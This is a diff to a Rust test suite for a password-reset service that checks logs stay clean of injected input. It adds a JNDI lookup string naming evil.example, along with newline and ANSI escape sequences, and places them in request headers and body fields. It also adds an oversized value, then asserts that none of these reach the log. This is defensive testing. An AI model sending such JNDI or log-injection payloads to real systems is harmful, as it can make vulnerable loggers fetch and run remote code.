@@ -15,6 +15,9 @@ const NEWER: &str = "correct horse battery staple 2";
 const NEWEST: &str = "correct horse battery staple 3";
 const ADMINS: &str = "a password by an administrator";
 const BAD_JSON: &str = "a password in a body that breaks";
+const LOOKED_UP: &str = "${jndi:ldap://evil.example/x}";
+/// The longest line of the log that is expected, in bytes.
+const LONGEST_LINE: usize = 4096;
 
 async fn reply_to(to: SocketAddr, request: Request, status: u16) -> Reply {
     request.send(to).await.expect(status)
@@ -99,6 +102,13 @@ async fn broken_bodies(to: SocketAddr, admin: &str) {
     }
     let injected = format!("/v1/resets/{}", BAD_JSON.replace(' ', "%0A%1B[31m"));
     Request::get(&injected).header("User-Agent", BAD_JSON).header("Referer", BAD_JSON).send(to).await;
+    // Texts that would break a line, steer a terminal, or be looked up by a logger, and one that is too long for a line.
+    let hostile = format!("\n\u{1b}[31m{LOOKED_UP}");
+    for name in [format!("{hostile}@contoso.example"), LOOKED_UP.repeat(40_000)] {
+        let body = json!({"userName": name, "method": "email"});
+        let request = Request::post("/v1/resets", &body).header("User-Agent", LOOKED_UP).key(LOOKED_UP);
+        request.header("X-Forwarded-For", LOOKED_UP).header("Referer", LOOKED_UP).send(to).await;
+    }
 }
 
 async fn administration(to: SocketAddr, admin: &str, secrets: &mut Secrets) {
@@ -182,5 +192,7 @@ async fn no_output_holds_a_secret_or_a_whole_contact_even_at_trace_level() {
             .collect();
         assert_eq!(found, [], "with {log}");
         assert!(!error.contains('\u{1b}'), "no control character of a request reaches the log");
+        assert!(!error.contains("jndi"), "nor does a text that a logger would look up");
+        assert!(error.lines().all(|line| line.len() <= LONGEST_LINE), "no line grows with a request");
     }
 }
